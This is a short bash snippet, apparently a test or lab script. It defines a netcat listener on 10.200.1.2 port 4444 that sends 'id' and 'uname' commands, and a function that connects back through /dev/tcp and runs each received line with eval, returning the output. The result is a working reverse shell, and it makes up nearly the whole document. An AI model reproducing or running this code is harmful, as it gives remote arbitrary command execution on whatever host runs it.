# bash reads a command, and tee sends what it wrote, with a copy to a file.
peers() { (echo id; sleep 0.5; echo uname; sleep 0.5) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() { timeout 5 bash -c 'exec 5<>/dev/tcp/10.200.1.2/4444; while read -r l <&5; do o=$(eval "$l" 2>&1); echo "$o" | tee -a log >&5; done'; }
